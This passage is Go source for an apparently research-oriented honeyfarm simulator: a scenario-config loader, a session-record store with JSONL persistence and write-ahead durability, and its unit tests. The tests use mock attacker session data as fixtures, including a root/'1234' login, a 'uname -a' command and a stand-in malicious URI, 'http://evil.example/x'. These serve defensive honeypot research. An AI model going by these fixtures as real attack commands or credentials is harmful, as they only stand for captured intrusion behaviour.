	// Workers is the generation fan-out (0 = GOMAXPROCS). The dataset is
	// byte-identical for any value, so this is purely a speed knob.
	Workers int `json:"workers,omitempty"`
	// DisableDefaultSpikes drops the paper's built-in spike schedule
	// when custom spikes are given (default: custom spikes replace the
	// schedule entirely).
	DisableCampaigns bool `json:"disable_campaigns,omitempty"`
	// Faults is an optional deterministic fault plan (connection fault
	// rates plus pot outage windows); see faults.Plan for the schema.
	// The plan's zero seed inherits the scenario seed.
	Faults *faults.Plan `json:"faults,omitempty"`
	// CheckpointDir makes generation crash-safe: completed shards are
	// persisted to a write-ahead log there, and Resume continues an
	// interrupted run with byte-identical output. Both can also be set
	// from cmd/honeyfarm's -wal-dir/-resume flags.
	CheckpointDir string `json:"checkpoint_dir,omitempty"`
	Resume        bool   `json:"resume,omitempty"`
}

// Spike is the JSON form of a workload spike.
type Spike struct {
	Category   string  `json:"category"`
	FirstDay   int     `json:"first_day"`
	LastDay    int     `json:"last_day"`
	Multiplier float64 `json:"multiplier"`
	Pots       int     `json:"pots"`
}

var categoryByName = map[string]analysis.Category{
	"NO_CRED":  analysis.NoCred,
	"FAIL_LOG": analysis.FailLog,
	"NO_CMD":   analysis.NoCmd,
	"CMD":      analysis.Cmd,
	"CMD+URI":  analysis.CmdURI,
}

// Load parses a scenario from r into a workload.Config.
func Load(r io.Reader) (workload.Config, error) {
	var sc Scenario
	dec := json.NewDecoder(r)
	dec.DisallowUnknownFields()
	if err := dec.Decode(&sc); err != nil {
		return workload.Config{}, fmt.Errorf("scenario: %w", err)
	}
	return sc.Config()
}

// LoadFile parses a scenario file.
func LoadFile(path string) (workload.Config, error) {
	f, err := os.Open(path)
	if err != nil {
		return workload.Config{}, err
	}
	defer f.Close()
	return Load(f)
}

// Config converts the scenario into a workload.Config.
func (sc Scenario) Config() (workload.Config, error) {
	cfg := workload.Config{
		Seed:             sc.Seed,
		TotalSessions:    sc.TotalSessions,
		Days:             sc.Days,
		NumPots:          sc.Pots,
		DisableCampaigns: sc.DisableCampaigns,
		Workers:          sc.Workers,
		CheckpointDir:    sc.CheckpointDir,
		Resume:           sc.Resume,
	}
	if sc.Faults != nil {
		plan := *sc.Faults
		if plan.Seed == 0 {
			plan.Seed = sc.Seed
		}
		if err := plan.Validate(); err != nil {
			return cfg, fmt.Errorf("scenario: %w", err)
		}
		cfg.Faults = &plan
	}
	if len(sc.CategoryShares) > 0 {
		shares, err := shareArray(sc.CategoryShares, true)
		if err != nil {
			return cfg, err
		}
		cfg.Shares = shares
	}
	if len(sc.SSHShares) > 0 {
		shares, err := shareArray(sc.SSHShares, false)
		if err != nil {
			return cfg, err
		}
		cfg.SSHShares = shares
	}
	if sc.Spikes != nil {
		cfg.Spikes = make([]workload.Spike, 0, len(sc.Spikes))
		for _, s := range sc.Spikes {
			cat, ok := categoryByName[s.Category]
			if !ok {
				return cfg, fmt.Errorf("scenario: unknown category %q", s.Category)
			}
			if s.LastDay < s.FirstDay || s.Multiplier <= 0 {
				return cfg, fmt.Errorf("scenario: invalid spike %+v", s)
			}
			cfg.Spikes = append(cfg.Spikes, workload.Spike{
				Category: cat, FirstDay: s.FirstDay, LastDay: s.LastDay,
				Multiplier: s.Multiplier, Pots: s.Pots,
			})
		}
	}
	return cfg, nil
}

// shareArray maps named shares into the category array. When normalize
// is set the values must sum to ≈1 (category mix); otherwise each value
// must lie in [0, 1] (protocol fractions). Unnamed categories fall back
// to the paper's calibration.
func shareArray(m map[string]float64, normalize bool) (*[analysis.NumCategories]float64, error) {
	out := workload.CategoryShare
	if !normalize {
		out = workload.SSHShare
	}
	sum := 0.0
	for name, v := range m {
		cat, ok := categoryByName[name]
		if !ok {
			return nil, fmt.Errorf("scenario: unknown category %q", name)
		}
		if v < 0 || v > 1 {
			return nil, fmt.Errorf("scenario: share %q = %v out of [0,1]", name, v)
		}
		out[cat] = v
	}
	for _, v := range out {
		sum += v
	}
	if normalize && (sum < 0.98 || sum > 1.02) {
		return nil, fmt.Errorf("scenario: category shares sum to %.3f, want ≈1", sum)
	}
	return &out, nil
}
