// Package store implements the honeyfarm's central collector database:
// a concurrency-safe, append-only store of session records with a JSONL
// on-disk codec and day-bucketed time indexing. The paper's honeyfarm
// shipped every session summary from 221 honeypots to one collector and
// analyzed the data "in situ"; this package is that collector.
package store

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"time"

	"honeyfarm/internal/honeypot"
)

// Store collects session records. The zero value is not usable; create
// with New. All methods are safe for concurrent use.
type Store struct {
	mu    sync.RWMutex
	recs  []*honeypot.SessionRecord
	epoch time.Time
}

// New creates a store whose day buckets are counted from epoch (the
// observation period's first day, e.g. the paper's 2021-12-01).
func New(epoch time.Time) *Store {
	return &Store{epoch: epoch.Truncate(24 * time.Hour)}
}

// Epoch returns the observation period start.
func (s *Store) Epoch() time.Time { return s.epoch }

// Add appends one record.
func (s *Store) Add(rec *honeypot.SessionRecord) {
	s.mu.Lock()
	s.recs = append(s.recs, rec)
	s.mu.Unlock()
}

// AddBatch appends many records with one lock acquisition.
func (s *Store) AddBatch(recs []*honeypot.SessionRecord) {
	s.mu.Lock()
	s.recs = append(s.recs, recs...)
	s.mu.Unlock()
}

// Len returns the number of stored records.
func (s *Store) Len() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.recs)
}

// Records returns a snapshot slice of all records. The slice is shared;
// callers must not mutate the records.
func (s *Store) Records() []*honeypot.SessionRecord {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.recs[:len(s.recs):len(s.recs)]
}

// Day returns the day bucket of a timestamp relative to the epoch.
// Timestamps before the epoch yield negative days.
func (s *Store) Day(t time.Time) int {
	d := t.Sub(s.epoch)
	day := int(d / (24 * time.Hour))
	if d < 0 && d%(24*time.Hour) != 0 {
		day-- // floor division for pre-epoch timestamps
	}
	return day
}

// NumDays returns one past the highest day bucket present.
func (s *Store) NumDays() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	max := -1
	for _, r := range s.recs {
		if d := s.Day(r.Start); d > max {
			max = d
		}
	}
	return max + 1
}

// Filter returns the records matching pred, in insertion order.
func (s *Store) Filter(pred func(*honeypot.SessionRecord) bool) []*honeypot.SessionRecord {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var out []*honeypot.SessionRecord
	for _, r := range s.recs {
		if pred(r) {
			out = append(out, r)
		}
	}
	return out
}

// jsonlHeader is the first line of a JSONL dump, carrying store metadata.
type jsonlHeader struct {
	Format string    `json:"format"`
	Epoch  time.Time `json:"epoch"`
	Count  int       `json:"count"`
}

const formatName = "honeyfarm-sessions-v1"

// WriteJSONL streams the store as JSON Lines: a header line followed by
// one record per line.
func (s *Store) WriteJSONL(w io.Writer) error {
	s.mu.RLock()
	defer s.mu.RUnlock()
	bw := bufio.NewWriterSize(w, 1<<20)
	enc := json.NewEncoder(bw)
	if err := enc.Encode(jsonlHeader{Format: formatName, Epoch: s.epoch, Count: len(s.recs)}); err != nil {
		return fmt.Errorf("store: writing header: %w", err)
	}
	for i, r := range s.recs {
		if err := enc.Encode(r); err != nil {
			return fmt.Errorf("store: writing record %d: %w", i, err)
		}
	}
	return bw.Flush()
}

// ReadJSONL loads a store previously written by WriteJSONL.
func ReadJSONL(r io.Reader) (*Store, error) {
	br := bufio.NewReaderSize(r, 1<<20)
	dec := json.NewDecoder(br)
	var hdr jsonlHeader
	if err := dec.Decode(&hdr); err != nil {
		return nil, fmt.Errorf("store: reading header: %w", err)
	}
	if hdr.Format != formatName {
		return nil, fmt.Errorf("store: unknown format %q", hdr.Format)
	}
	s := New(hdr.Epoch)
	s.recs = make([]*honeypot.SessionRecord, 0, hdr.Count)
	for {
		rec := new(honeypot.SessionRecord)
		if err := dec.Decode(rec); err != nil {
			if err == io.EOF {
				break
			}
			return nil, fmt.Errorf("store: reading record %d: %w", len(s.recs), err)
		}
		s.recs = append(s.recs, rec)
	}
	if hdr.Count != 0 && len(s.recs) != hdr.Count {
		return nil, fmt.Errorf("store: header promised %d records, found %d", hdr.Count, len(s.recs))
	}
	return s, nil
}
