// Package store implements the honeyfarm's central collector database:
// a concurrency-safe, append-only store of session records with a JSONL
// on-disk codec and day-bucketed time indexing. The paper's honeyfarm
// shipped every session summary from 221 honeypots to one collector and
// analyzed the data "in situ"; this package is that collector.
package store

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"sync"
	"time"

	"honeyfarm/internal/honeypot"
)

// DurableSink persists record batches before the store acknowledges
// them in memory — the write-ahead half of the collector's durability
// contract. wal.Log implements it.
type DurableSink interface {
	Append(recs []*honeypot.SessionRecord) error
}

// Store collects session records. The zero value is not usable; create
// with New or Builder.Seal. All methods are safe for concurrent use.
type Store struct {
	mu    sync.RWMutex
	recs  []*honeypot.SessionRecord
	epoch time.Time
	// Day-index cache: maxDay is the highest day bucket among
	// recs[:scanned]. NumDays folds the unscanned tail in lazily, so
	// repeated calls never rescan records that were already indexed.
	scanned int
	maxDay  int
	// Durable sink mode: when sink is non-nil every Add/AddBatch writes
	// the records through it before they enter memory. sinkErr keeps the
	// first persistence failure; records are kept in memory regardless,
	// so a failing disk degrades durability, never the dataset.
	// durableLost counts the records whose persistence failed — the
	// count-and-drop half of the degraded-disk contract, so operators can
	// tell exactly how much replay coverage an outage cost.
	sink        DurableSink
	sinkErr     error
	durableLost int
	// tee observes every accepted batch after it enters memory — the
	// live-ingest hook the incremental query engine attaches to. Calls
	// are serialized in acceptance order and must not mutate the records.
	tee func([]*honeypot.SessionRecord)
}

// SetTee attaches a batch observer: every Add/AddBatch forwards the
// accepted records to tee after they enter memory, in acceptance order.
// The observer must treat the records as immutable. Pass nil to detach.
func (s *Store) SetTee(tee func([]*honeypot.SessionRecord)) {
	s.mu.Lock()
	s.tee = tee
	s.mu.Unlock()
}

// SetDurable attaches a write-ahead sink. Call before records flow;
// subsequent Add/AddBatch calls persist through the sink first.
func (s *Store) SetDurable(sink DurableSink) {
	s.mu.Lock()
	s.sink = sink
	s.mu.Unlock()
}

// DurableErr returns the first error the durable sink reported, or nil.
func (s *Store) DurableErr() error {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.sinkErr
}

// DurableLost returns how many records failed to persist through the
// durable sink. They remain in memory (and in the dataset); only their
// crash-replay coverage is gone.
func (s *Store) DurableLost() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.durableLost
}

// persist writes recs through the durable sink, if any, recording the
// first failure.
func (s *Store) persist(recs []*honeypot.SessionRecord) {
	s.mu.RLock()
	sink := s.sink
	s.mu.RUnlock()
	if sink == nil {
		return
	}
	if err := sink.Append(recs); err != nil {
		s.mu.Lock()
		if s.sinkErr == nil {
			s.sinkErr = err
		}
		s.durableLost += len(recs)
		s.mu.Unlock()
	}
}

// New creates a store whose day buckets are counted from epoch (the
// observation period's first day, e.g. the paper's 2021-12-01).
func New(epoch time.Time) *Store {
	return &Store{epoch: NormalizeEpoch(epoch), maxDay: -1}
}

// NormalizeEpoch aligns the epoch to its own zone's midnight and
// converts the result to UTC so the serialized form is canonical.
// Truncate(24h) is NOT equivalent: it operates on absolute time and
// lands on UTC midnights, so a non-UTC epoch was silently shifted off
// that zone's midnight — moving every day-bucket boundary by the zone
// offset. Exported so stores, WAL metadata and the incremental query
// engine all bucket days from the identical instant.
func NormalizeEpoch(epoch time.Time) time.Time {
	y, m, d := epoch.Date()
	return time.Date(y, m, d, 0, 0, 0, 0, epoch.Location()).UTC()
}

// DayOf returns the day bucket of t relative to a NormalizeEpoch'd
// epoch, flooring pre-epoch timestamps to negative days. Store.Day and
// the query engine share this one definition.
func DayOf(epoch, t time.Time) int {
	d := t.Sub(epoch)
	day := int(d / (24 * time.Hour))
	if d < 0 && d%(24*time.Hour) != 0 {
		day-- // floor division for pre-epoch timestamps
	}
	return day
}

// Epoch returns the observation period start.
func (s *Store) Epoch() time.Time { return s.epoch }

// Add appends one record, persisting it first in durable sink mode.
func (s *Store) Add(rec *honeypot.SessionRecord) {
	batch := []*honeypot.SessionRecord{rec}
	s.persist(batch)
	s.mu.Lock()
	s.recs = append(s.recs, rec)
	tee := s.tee
	if tee != nil {
		// Called under the lock so tee observes batches in exactly the
		// order they entered memory — the prefix-consistency the query
		// engine's snapshots rely on.
		tee(batch)
	}
	s.mu.Unlock()
}

// AddBatch appends many records with one lock acquisition, persisting
// them first in durable sink mode.
func (s *Store) AddBatch(recs []*honeypot.SessionRecord) {
	s.persist(recs)
	s.mu.Lock()
	s.recs = append(s.recs, recs...)
	tee := s.tee
	if tee != nil {
		tee(recs)
	}
	s.mu.Unlock()
}

// Len returns the number of stored records.
func (s *Store) Len() int {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return len(s.recs)
}

// Records returns a snapshot slice of all records. The slice is shared;
// callers must not mutate the records.
func (s *Store) Records() []*honeypot.SessionRecord {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.recs[:len(s.recs):len(s.recs)]
}

// Day returns the day bucket of a timestamp relative to the epoch.
// Timestamps before the epoch yield negative days.
func (s *Store) Day(t time.Time) int { return DayOf(s.epoch, t) }

// NumDays returns one past the highest day bucket present. Only records
// appended since the previous call are scanned; the running maximum is
// cached, so the aggregate cost over a store's lifetime is one pass.
func (s *Store) NumDays() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	for _, r := range s.recs[s.scanned:] {
		if d := s.Day(r.Start); d > s.maxDay {
			s.maxDay = d
		}
	}
	s.scanned = len(s.recs)
	return s.maxDay + 1
}

// Filter returns the records matching pred, in insertion order.
func (s *Store) Filter(pred func(*honeypot.SessionRecord) bool) []*honeypot.SessionRecord {
	s.mu.RLock()
	defer s.mu.RUnlock()
	var out []*honeypot.SessionRecord
	for _, r := range s.recs {
		if pred(r) {
			out = append(out, r)
		}
	}
	return out
}

// Builder assembles a Store from per-shard buffers filled concurrently.
// Each shard index is owned by exactly one writer at a time, so shard
// fills need no locking; Seal concatenates the shards in index order,
// making the final record order a pure function of the shard contents —
// independent of how many goroutines filled them or in what order they
// finished. This is the collector-side half of the deterministic
// parallel generation pipeline.
type Builder struct {
	epoch  time.Time
	shards [][]*honeypot.SessionRecord
}

// NewBuilder creates a builder with the given shard count. The epoch is
// normalized exactly as New does.
func NewBuilder(epoch time.Time, shards int) *Builder {
	return &Builder{
		epoch:  NormalizeEpoch(epoch),
		shards: make([][]*honeypot.SessionRecord, shards),
	}
}

// Shards returns the builder's shard count.
func (b *Builder) Shards() int { return len(b.shards) }

// SetShard installs shard i's records. Safe for concurrent use across
// distinct shard indexes; the caller must ensure a single writer per
// index.
func (b *Builder) SetShard(i int, recs []*honeypot.SessionRecord) {
	b.shards[i] = recs
}

// AppendShard appends records to shard i under the same single-writer-
// per-index contract as SetShard.
func (b *Builder) AppendShard(i int, recs ...*honeypot.SessionRecord) {
	b.shards[i] = append(b.shards[i], recs...)
}

// Seal merges the shards in index order into a Store and pre-computes
// its day index. The builder must not be reused after Seal.
func (b *Builder) Seal() *Store {
	total := 0
	for _, sh := range b.shards {
		total += len(sh)
	}
	recs := make([]*honeypot.SessionRecord, 0, total)
	for _, sh := range b.shards {
		recs = append(recs, sh...)
	}
	s := &Store{epoch: b.epoch, recs: recs, maxDay: -1}
	for _, r := range recs {
		if d := s.Day(r.Start); d > s.maxDay {
			s.maxDay = d
		}
	}
	s.scanned = len(recs)
	b.shards = nil
	return s
}

// jsonlHeader is the first line of a JSONL dump, carrying store metadata.
type jsonlHeader struct {
	Format string    `json:"format"`
	Epoch  time.Time `json:"epoch"`
	Count  int       `json:"count"`
}

const formatName = "honeyfarm-sessions-v1"

// WriteJSONL streams the store as JSON Lines: a header line followed by
// one record per line.
func (s *Store) WriteJSONL(w io.Writer) error {
	s.mu.RLock()
	defer s.mu.RUnlock()
	bw := bufio.NewWriterSize(w, 1<<20)
	enc := json.NewEncoder(bw)
	if err := enc.Encode(jsonlHeader{Format: formatName, Epoch: s.epoch, Count: len(s.recs)}); err != nil {
		return fmt.Errorf("store: writing header: %w", err)
	}
	for i, r := range s.recs {
		if err := enc.Encode(r); err != nil {
			return fmt.Errorf("store: writing record %d: %w", i, err)
		}
	}
	return bw.Flush()
}

// ReadJSONLOptions tunes ReadJSONLWith. The zero value is the strict
// contract ReadJSONL enforces.
type ReadJSONLOptions struct {
	// AllowTornTail tolerates the crash artifact of an interrupted
	// writer: a malformed final line is discarded and fewer records than
	// the header promised are accepted, with both reported in the
	// TruncationReport. Corruption anywhere else still errors.
	AllowTornTail bool
}

// TruncationReport describes what tolerant JSONL reading recovered and
// what it had to discard.
type TruncationReport struct {
	// Records is the number of records recovered; HeaderCount is what
	// the header promised.
	Records     int
	HeaderCount int
	// Torn reports that a malformed final line was discarded; TornBytes
	// is its length.
	Torn      bool
	TornBytes int
	// Truncated reports that fewer records were recovered than the
	// header promised (a torn line, or whole lines lost at a newline
	// boundary).
	Truncated bool
}

// ReadJSONL loads a store previously written by WriteJSONL. The header
// count is validated unconditionally against the records actually
// decoded, so a truncated stream or a corrupted header — including one
// claiming zero records when records follow — is always an error.
func ReadJSONL(r io.Reader) (*Store, error) {
	s, _, err := ReadJSONLWith(r, ReadJSONLOptions{})
	return s, err
}

// ReadJSONLWith is ReadJSONL with an options struct: the strict default
// behaves exactly like ReadJSONL, while AllowTornTail recovers the
// intact prefix of a crash-truncated dump and reports the damage.
func ReadJSONLWith(r io.Reader, opts ReadJSONLOptions) (*Store, TruncationReport, error) {
	var rep TruncationReport
	br := bufio.NewReaderSize(r, 1<<20)
	hdrLine, err := readLine(br)
	if err != nil && len(hdrLine) == 0 {
		return nil, rep, fmt.Errorf("store: reading header: %w", err)
	}
	var hdr jsonlHeader
	if err := json.Unmarshal(hdrLine, &hdr); err != nil {
		return nil, rep, fmt.Errorf("store: reading header: %w", err)
	}
	if hdr.Format != formatName {
		return nil, rep, fmt.Errorf("store: unknown format %q", hdr.Format)
	}
	if hdr.Count < 0 {
		return nil, rep, fmt.Errorf("store: header promises negative record count %d", hdr.Count)
	}
	rep.HeaderCount = hdr.Count
	s := New(hdr.Epoch)
	// Cap the pre-allocation: a corrupted count must not translate into
	// an attacker-sized allocation before the mismatch is detected.
	capHint := hdr.Count
	if capHint > 1<<20 {
		capHint = 1 << 20
	}
	s.recs = make([]*honeypot.SessionRecord, 0, capHint)
	for {
		line, err := readLine(br)
		if len(line) > 0 {
			rec := new(honeypot.SessionRecord)
			if uerr := json.Unmarshal(line, rec); uerr != nil {
				// A malformed line with nothing after it is the torn tail
				// of an interrupted write; anything earlier is corruption.
				last := err == io.EOF || atEOF(br)
				if opts.AllowTornTail && last {
					rep.Torn = true
					rep.TornBytes = len(line)
					break
				}
				return nil, rep, fmt.Errorf("store: reading record %d: %w", len(s.recs), uerr)
			}
			s.recs = append(s.recs, rec)
		}
		if err == io.EOF {
			break
		}
		if err != nil {
			return nil, rep, fmt.Errorf("store: reading record %d: %w", len(s.recs), err)
		}
	}
	rep.Records = len(s.recs)
	rep.Truncated = len(s.recs) < hdr.Count
	if len(s.recs) > hdr.Count || (rep.Truncated && !opts.AllowTornTail) {
		return nil, rep, fmt.Errorf("store: header promised %d records, found %d", hdr.Count, len(s.recs))
	}
	return s, rep, nil
}

// readLine reads one newline-terminated line, returning it without the
// terminator. At EOF the final unterminated line (if any) is returned
// alongside io.EOF.
func readLine(br *bufio.Reader) ([]byte, error) {
	line, err := br.ReadBytes('\n')
	if n := len(line); n > 0 && line[n-1] == '\n' {
		line = line[:n-1]
	}
	if err == nil && len(line) == 0 {
		return nil, nil
	}
	return line, err
}

// atEOF reports whether the reader has no further bytes.
func atEOF(br *bufio.Reader) bool {
	_, err := br.Peek(1)
	return err == io.EOF
}
