package store

import (
	"bytes"
	"strings"
	"sync"
	"testing"
	"time"

	"honeyfarm/internal/honeypot"
)

var epoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)

func rec(day int, pot int, ip string) *honeypot.SessionRecord {
	start := epoch.Add(time.Duration(day) * 24 * time.Hour).Add(3 * time.Hour)
	return &honeypot.SessionRecord{
		HoneypotID: pot,
		ClientIP:   ip,
		Start:      start,
		End:        start.Add(30 * time.Second),
		Protocol:   honeypot.SSH,
	}
}

func TestAddAndQuery(t *testing.T) {
	s := New(epoch)
	s.Add(rec(0, 1, "1.1.1.1"))
	s.AddBatch([]*honeypot.SessionRecord{rec(1, 2, "2.2.2.2"), rec(5, 1, "1.1.1.1")})
	if s.Len() != 3 {
		t.Fatalf("Len = %d", s.Len())
	}
	if s.NumDays() != 6 {
		t.Errorf("NumDays = %d, want 6", s.NumDays())
	}
	got := s.Filter(func(r *honeypot.SessionRecord) bool { return r.HoneypotID == 1 })
	if len(got) != 2 {
		t.Errorf("filter = %d records", len(got))
	}
}

func TestDayBuckets(t *testing.T) {
	s := New(epoch)
	if d := s.Day(epoch.Add(36 * time.Hour)); d != 1 {
		t.Errorf("Day(+36h) = %d, want 1", d)
	}
	if d := s.Day(epoch); d != 0 {
		t.Errorf("Day(epoch) = %d, want 0", d)
	}
	if d := s.Day(epoch.Add(-time.Hour)); d >= 0 {
		t.Errorf("Day(before epoch) = %d, want negative", d)
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	s := New(epoch)
	r1 := rec(0, 3, "9.9.9.9")
	r1.Logins = []honeypot.LoginAttempt{{User: "root", Password: "1234", Success: true}}
	r1.Commands = []honeypot.CommandRecord{{Input: "uname -a", Known: true}}
	r1.URIs = []string{"http://evil.example/x"}
	r1.Files = []honeypot.FileRecord{{Path: "/tmp/x", Hash: "abc", Op: "create", Size: 10}}
	r1.ClientVersion = "SSH-2.0-test"
	s.Add(r1)
	s.Add(rec(2, 4, "8.8.8.8"))

	var buf bytes.Buffer
	if err := s.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Count(buf.String(), "\n"); lines != 3 {
		t.Errorf("jsonl lines = %d, want 3 (header + 2 records)", lines)
	}

	loaded, err := ReadJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if loaded.Len() != 2 || !loaded.Epoch().Equal(s.Epoch()) {
		t.Fatalf("loaded len=%d epoch=%v", loaded.Len(), loaded.Epoch())
	}
	got := loaded.Records()[0]
	if got.Logins[0].Password != "1234" || got.Commands[0].Input != "uname -a" ||
		got.URIs[0] != "http://evil.example/x" || got.Files[0].Hash != "abc" {
		t.Errorf("record fields lost: %+v", got)
	}
}

func TestReadJSONLErrors(t *testing.T) {
	if _, err := ReadJSONL(strings.NewReader("")); err == nil {
		t.Error("empty input should fail")
	}
	if _, err := ReadJSONL(strings.NewReader(`{"format":"other"}` + "\n")); err == nil {
		t.Error("wrong format should fail")
	}
	if _, err := ReadJSONL(strings.NewReader(`{"format":"honeyfarm-sessions-v1","count":5}` + "\n")); err == nil {
		t.Error("count mismatch should fail")
	}
	if _, err := ReadJSONL(strings.NewReader(`{"format":"honeyfarm-sessions-v1","count":1}` + "\n" + "not-json\n")); err == nil {
		t.Error("garbage record should fail")
	}
}

func TestConcurrentAdd(t *testing.T) {
	s := New(epoch)
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func(n int) {
			defer wg.Done()
			for j := 0; j < 100; j++ {
				s.Add(rec(j%10, n, "1.2.3.4"))
			}
		}(i)
	}
	wg.Wait()
	if s.Len() != 800 {
		t.Errorf("Len = %d, want 800", s.Len())
	}
}

func TestRecordsSnapshotIsStable(t *testing.T) {
	s := New(epoch)
	s.Add(rec(0, 1, "1.1.1.1"))
	snap := s.Records()
	s.Add(rec(1, 2, "2.2.2.2"))
	if len(snap) != 1 {
		t.Errorf("snapshot grew: %d", len(snap))
	}
}

func BenchmarkAdd(b *testing.B) {
	s := New(epoch)
	r := rec(0, 1, "1.1.1.1")
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s.Add(r)
	}
}

func BenchmarkJSONLWrite(b *testing.B) {
	s := New(epoch)
	for i := 0; i < 10000; i++ {
		s.Add(rec(i%480, i%221, "1.2.3.4"))
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		var buf bytes.Buffer
		if err := s.WriteJSONL(&buf); err != nil {
			b.Fatal(err)
		}
	}
}

func TestJSONLPreservesTranscript(t *testing.T) {
	s := New(epoch)
	r := rec(0, 1, "1.1.1.1")
	r.Transcript = []byte("root@svr04:~# uname -a\r\nLinux svr04\r\n\x00\xff binary ok")
	s.Add(r)
	var buf bytes.Buffer
	if err := s.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := ReadJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	got := loaded.Records()[0].Transcript
	if !bytes.Equal(got, r.Transcript) {
		t.Errorf("transcript lost: %q vs %q", got, r.Transcript)
	}
}
