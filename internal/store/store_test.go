package store

import (
	"bytes"
	"strings"
	"sync"
	"testing"
	"time"

	"honeyfarm/internal/honeypot"
)

var epoch = time.Date(2021, 12, 1, 0, 0, 0, 0, time.UTC)

func rec(day int, pot int, ip string) *honeypot.SessionRecord {
	start := epoch.Add(time.Duration(day) * 24 * time.Hour).Add(3 * time.Hour)
	return &honeypot.SessionRecord{
		HoneypotID: pot,
		ClientIP:   ip,
		Start:      start,
		End:        start.Add(30 * time.Second),
		Protocol:   honeypot.SSH,
	}
}

func TestAddAndQuery(t *testing.T) {
	s := New(epoch)
	s.Add(rec(0, 1, "1.1.1.1"))
	s.AddBatch([]*honeypot.SessionRecord{rec(1, 2, "2.2.2.2"), rec(5, 1, "1.1.1.1")})
	if s.Len() != 3 {
		t.Fatalf("Len = %d", s.Len())
	}
	if s.NumDays() != 6 {
		t.Errorf("NumDays = %d, want 6", s.NumDays())
	}
	got := s.Filter(func(r *honeypot.SessionRecord) bool { return r.HoneypotID == 1 })
	if len(got) != 2 {
		t.Errorf("filter = %d records", len(got))
	}
}

func TestDayBuckets(t *testing.T) {
	s := New(epoch)
	if d := s.Day(epoch.Add(36 * time.Hour)); d != 1 {
		t.Errorf("Day(+36h) = %d, want 1", d)
	}
	if d := s.Day(epoch); d != 0 {
		t.Errorf("Day(epoch) = %d, want 0", d)
	}
	if d := s.Day(epoch.Add(-time.Hour)); d >= 0 {
		t.Errorf("Day(before epoch) = %d, want negative", d)
	}
}

func TestJSONLRoundTrip(t *testing.T) {
	s := New(epoch)
	r1 := rec(0, 3, "9.9.9.9")
	r1.Logins = []honeypot.LoginAttempt{{User: "root", Password: "1234", Success: true}}
	r1.Commands = []honeypot.CommandRecord{{Input: "uname -a", Known: true}}
	r1.URIs = []string{"http://evil.example/x"}
	r1.Files = []honeypot.FileRecord{{Path: "/tmp/x", Hash: "abc", Op: "create", Size: 10}}
	r1.ClientVersion = "SSH-2.0-test"
	s.Add(r1)
	s.Add(rec(2, 4, "8.8.8.8"))

	var buf bytes.Buffer
	if err := s.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Count(buf.String(), "\n"); lines != 3 {
		t.Errorf("jsonl lines = %d, want 3 (header + 2 records)", lines)
	}

	loaded, err := ReadJSONL(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if loaded.Len() != 2 || !loaded.Epoch().Equal(s.Epoch()) {
		t.Fatalf("loaded len=%d epoch=%v", loaded.Len(), loaded.Epoch())
	}
	got := loaded.Records()[0]
	if got.Logins[0].Password != "1234" || got.Commands[0].Input != "uname -a" ||
		got.URIs[0] != "http://evil.example/x" || got.Files[0].Hash != "abc" {
		t.Errorf("record fields lost: %+v", got)
	}
}

func TestReadJSONLErrors(t *testing.T) {
	if _, err := ReadJSONL(strings.NewReader("")); err == nil {
		t.Error("empty input should fail")
	}
	if _, err := ReadJSONL(strings.NewReader(`{"format":"other"}` + "\n")); err == nil {
		t.Error("wrong format should fail")
	}
	if _, err := ReadJSONL(strings.NewReader(`{"format":"honeyfarm-sessions-v1","count":5}` + "\n")); err == nil {
		t.Error("count mismatch should fail")
	}
	if _, err := ReadJSONL(strings.NewReader(`{"format":"honeyfarm-sessions-v1","count":1}` + "\n" + "not-json\n")); err == nil {
		t.Error("garbage record should fail")
	}
	if _, err := ReadJSONL(strings.NewReader(`{"format":"honeyfarm-sessions-v1","count":-3}` + "\n")); err == nil {
		t.Error("negative count should fail")
	}
}

// TestReadJSONLZeroCountHeader covers the corrupted-header case the old
// `hdr.Count != 0` guard waved through: a header claiming zero records
// followed by actual records must be rejected, not silently accepted.
func TestReadJSONLZeroCountHeader(t *testing.T) {
	s := New(epoch)
	s.Add(rec(0, 1, "1.1.1.1"))
	s.Add(rec(1, 2, "2.2.2.2"))
	var buf bytes.Buffer
	if err := s.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	lines := strings.SplitN(buf.String(), "\n", 2)
	corrupted := strings.Replace(lines[0], `"count":2`, `"count":0`, 1) + "\n" + lines[1]
	if corrupted == buf.String() {
		t.Fatal("test setup: header rewrite did not change anything")
	}
	if _, err := ReadJSONL(strings.NewReader(corrupted)); err == nil {
		t.Error("count:0 header with records present should fail")
	}
}

// TestReadJSONLTruncated drops the last record line from a valid dump
// and expects the count validation to catch the truncation.
func TestReadJSONLTruncated(t *testing.T) {
	s := New(epoch)
	for i := 0; i < 3; i++ {
		s.Add(rec(i, i, "3.3.3.3"))
	}
	var buf bytes.Buffer
	if err := s.WriteJSONL(&buf); err != nil {
		t.Fatal(err)
	}
	full := buf.String()
	cut := strings.LastIndex(strings.TrimSuffix(full, "\n"), "\n")
	truncated := full[:cut+1]
	if _, err := ReadJSONL(strings.NewReader(truncated)); err == nil {
		t.Error("truncated stream should fail count validation")
	}
	// A partially-written final line (no trailing newline, cut mid-JSON)
	// must also fail, via either decode error or count mismatch.
	if _, err := ReadJSONL(strings.NewReader(full[:len(full)-10])); err == nil {
		t.Error("mid-record truncation should fail")
